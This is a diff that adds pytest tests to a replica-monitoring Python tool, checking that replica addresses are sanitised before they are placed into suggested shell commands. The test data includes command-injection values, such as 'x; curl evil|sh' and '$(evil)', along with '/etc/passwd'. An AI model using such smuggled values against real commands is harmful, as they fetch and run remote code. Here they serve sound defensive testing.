@@ -4,7 +4,11 @@ from __future__ import annotations
 
 import pytest
 
-from flowstone.observation.wording import position, rows_text, seconds_text
+from flowstone.observation.replica_set import Member, ReplicaSet, replica_sets
+from flowstone.observation.wording import expel, for_command, position, promote, rows_text, seconds_text
+from tests.observation.reports import report, upstream, uuid
+
+EVIL = "x; curl evil|sh #:1"
 
 
 @pytest.mark.parametrize(
@@ -21,3 +25,34 @@ def test_one_row_is_not_one_rows() -> None:
 
 def test_a_position_is_sorted_by_replica() -> None:
     assert position({2: 3, 1: 10}) == "{1: 10, 2: 3}"
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["db1:3301", "10.0.0.1:3301", "[fe80::1%eth0]:3301", "my_db-1.example.org:1", "unix/:/run/tarantool/a-1.sock"],
+)
+def test_an_address_is_put_into_a_command_as_it_is(address: str) -> None:
+    assert for_command(address) == address
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        *(None, "", EVIL, "$(evil):1", "a b:1", "a'b:1", "a:1\n", "a&:1", "a>b:1", "~:1", "a\\b:1"),
+        *("--force:1", "/etc/passwd", "unix/:", "unix/:/a b", "unix/:/$(evil)"),
+    ],
+)
+def test_what_a_shell_would_not_take_for_one_address_is_not_put_into_a_command(address: str | None) -> None:
+    assert for_command(address) == "URI"
+
+
+def test_commands_name_no_address_that_does_more_than_say_where() -> None:
+    told = report(1, {1: 3}, {2: {"upstream": upstream(2, peer=EVIL)}})
+    (one,) = replica_sets([told])
+    member = one.member(uuid(2))
+    assert member is not None
+    assert member.address == EVIL
+    assert promote(member) == "`flowstone promote URI`"
+    assert expel(one, member) == "`flowstone expel db1:3301 2`"
+    answers = Member(uuid=uuid(1), id=1, address="unix/:/tmp/a; evil", report=told)
+    assert expel(ReplicaSet(uuid=None, members=(answers, member)), member) == "`flowstone expel URI 2`"
